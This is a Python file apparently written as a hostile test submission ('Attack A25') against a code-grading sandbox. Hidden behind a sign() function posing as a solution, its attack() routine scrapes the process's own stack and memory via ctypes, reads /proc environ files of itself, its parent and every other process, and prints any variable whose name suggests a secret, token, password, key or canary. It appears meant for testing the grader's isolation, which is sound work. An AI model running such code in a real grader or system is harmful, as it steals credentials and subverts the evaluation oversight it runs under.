# HOSTILE base=solution
"""Attack A25: steal the grader's secrets from its environment.  The grader clears the
runner's os.environ, but a runner is a fork of the grader's command-line process, so the
environment block that process was started with is still in memory (on the stack, next
to argv).  Also tries /proc/self/environ, the parent's /proc/<ppid>/environ, posix.environ,
and every other process's environ.  Prints LEAK:env:<where>:<NAME=value> for variables
whose name looks secret."""
import ctypes
import os
import posix
import re

SECRET_NAME = re.compile(rb"([A-Z0-9_]*(?:SECRET|TOKEN|PASSWORD|KEY|CANARY)[A-Z0-9_]*=[^\0\n]{1,200})")
_done = []


def _scan(where, data, found):
    for m in SECRET_NAME.finditer(data):
        found.add((where, m.group(1).decode(errors="replace")))


def attack():
    found = set()
    libc = ctypes.CDLL(None)
    addr = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    try:
        with open("/proc/self/maps") as fh:
            for line in fh:
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                if lo <= addr < hi or line.rstrip().endswith("[stack]"):
                    _scan("own-memory", ctypes.string_at(lo, hi - lo), found)
    except OSError:
        pass
    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ",
                 *[f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]]:
        try:
            with open(path, "rb") as fh:
                _scan(path, fh.read(), found)
        except OSError:
            pass
    _scan("os.environ", "\0".join(f"{k}={v}" for k, v in os.environ.items()).encode(), found)
    _scan("posix.environ", b"\0".join(k + b"=" + v for k, v in posix.environ.items()), found)
    for where, item in sorted(found):
        print(f"LEAK:env:{where}:{item}")
    print("HOSTILE-DONE environ_leak")


def sign(x):
    if not _done:
        _done.append(1)
        attack()
    return "WRONG"
